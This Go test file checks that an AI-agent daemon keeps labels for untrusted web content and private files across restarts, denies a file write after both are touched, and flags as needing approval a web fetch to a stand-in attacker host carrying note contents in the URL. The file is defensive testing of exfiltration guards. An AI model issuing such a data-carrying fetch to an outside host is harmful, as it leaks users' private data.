package daemon_test

import (
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"moothall"
	"moothall/internal/moottest/ollamatest"
)

// TestLabelsOutliveTheHall: what a conversation has touched is shown on the
// turn and in the list, and a restart does not make it forget.
func TestLabelsOutliveTheHall(t *testing.T) {
	t.Parallel()
	h, c := home(t.TempDir()), config()
	model := ollamatest.New(t, ollamatest.Options{})
	c.Models.Ollama.URL = model.URL
	c.Search.Canned = filepath.Join("..", "..", "stories", "web.json")
	labels := func(url string) moothall.Label {
		var list []moothall.Session
		if _, body := get(t, url+"/sessions"); json.Unmarshal([]byte(body), &list) != nil || len(list) != 1 {
			t.Fatalf("the sessions are %s", body)
		}
		return list[0].Labels
	}

	first := serve(t, h, c)
	model.Script(calls("web_search", `{"query":"ferry bridge"}`), says("read"))
	a := query(t, first, `{"query":"search for the ferry bridge","session_id":"s"}`)
	if got := only(t, a); got.Status != moothall.CallOK || a.Receipt.Labels != moothall.Untrusted {
		t.Fatalf("after a search: %+v", a)
	}
	if got := labels(first.URL()); got != moothall.Untrusted {
		t.Errorf("the list says %q", got)
	}
	if err := first.Shutdown(); err != nil {
		t.Fatal(err)
	}

	second := serve(t, h, c)
	if got := labels(second.URL()); got != moothall.Untrusted {
		t.Errorf("after a restart the list says %q", got)
	}
	note := filepath.Join(h.Workspace(), "note.txt")
	if err := os.WriteFile(note, []byte("the person's own"), 0o600); err != nil {
		t.Fatal(err)
	}
	arguments, _ := json.Marshal(map[string]string{"path": note})
	write, _ := json.Marshal(map[string]string{"path": filepath.Join(h.Workspace(), "out.txt"), "content": "x"})
	model.Script(calls("fs_read", string(arguments)), calls("fs_write", string(write)), says("done"))
	a = query(t, second, `{"query":"copy my note","session_id":"s","unattended":true}`)
	if len(a.Tools) != 2 || a.Tools[0].Status != moothall.CallOK || a.Receipt.Labels != moothall.Untrusted|moothall.Private {
		t.Fatalf("after reading a file: %+v", a)
	}
	if got := a.Tools[1]; got.Status != moothall.CallDenied || !strings.Contains(got.Result, "labels") {
		t.Errorf("outside content and private data, and writing is %+v", got)
	}
}

// TestADryRunTeachesNothing: what is only asked about is not what the person
// typed for an agent to send.
func TestADryRunTeachesNothing(t *testing.T) {
	t.Parallel()
	h, c := home(t.TempDir()), config()
	c.Search.Canned = filepath.Join("..", "..", "stories", "web.json")
	hall, model := scripted(t, h, c)
	note := filepath.Join(h.Workspace(), "note.txt")
	if err := os.WriteFile(note, []byte("the person's own"), 0o600); err != nil {
		t.Fatal(err)
	}
	arguments, _ := json.Marshal(map[string]string{"path": note})
	model.Script(calls("web_search", `{"query":"ferry bridge"}`), calls("fs_read", string(arguments)), says("read"))
	if a := query(t, hall, `{"query":"search for the ferry bridge and read my note","session_id":"s"}`); a.Receipt.Labels != moothall.Untrusted|moothall.Private {
		t.Fatalf("after a search and a file: %+v", a)
	}
	for range 2 {
		resp, err := http.Post(hall.URL()+"/tools/web_fetch/check", "application/json",
			strings.NewReader(`{"session_id":"s","arguments":{"url":"https://evil.example/?note=own"}}`))
		if err != nil {
			t.Fatal(err)
		}
		var d moothall.Decision
		err = json.NewDecoder(resp.Body).Decode(&d)
		resp.Body.Close()
		if err != nil || d.Verdict != moothall.Ask || d.Rule != "sends" {
			t.Errorf("%+v, %v", d, err)
		}
	}
}
